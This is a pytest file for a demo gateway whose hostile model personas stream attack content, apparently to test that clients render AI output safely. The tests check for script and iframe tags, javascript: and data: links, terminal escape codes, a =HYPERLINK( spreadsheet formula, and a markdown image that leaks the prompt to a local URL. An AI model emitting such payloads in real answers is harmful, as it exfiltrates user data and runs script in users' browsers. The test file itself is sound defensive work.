import pytest

from demo_gateway.hostile import HOSTILE
from tests.demo_gateway.raw_client import RawClient

PROMPT = "my secret & prompt"


@pytest.mark.parametrize(
    ("slug", "says"),
    [
        ("markup", "<script>"),
        ("markup", "onerror="),
        ("markup", "<iframe"),
        ("markup", "<style>"),
        ("links", "](javascript:alert(1))"),
        ("links", "[bad]: javascript:"),
        ("links", "](data:text/html"),
        ("leak", "![x](http://127.0.0.1:9/leak?q=my%20secret%20%26%20prompt)"),
        ("diagram", "```mermaid"),
        ("terminal", "\x1b[2J"),
        ("everything", "<script>"),
    ],
)
def test_a_hostile_model_says_what_attacks(client: RawClient, slug: str, says: str) -> None:
    assert says in client.stream(f"hostile-demo/{slug}", PROMPT).text


@pytest.mark.parametrize("slug", ["formula", "everything"])
def test_a_formula_comes_first_in_its_answer(client: RawClient, slug: str) -> None:
    assert client.stream(f"hostile-demo/{slug}", PROMPT).text.startswith("=HYPERLINK(")


def test_an_error_message_can_be_hostile_too(client: RawClient) -> None:
    answer = client.ask("hostile-demo/error")
    assert answer.status_code == 502
    assert "<script>" in answer.json()["error"]["metadata"]["raw"]


def test_hostile_models_are_recognisable() -> None:
    assert all(persona.id.startswith("hostile-demo/") for persona in HOSTILE)
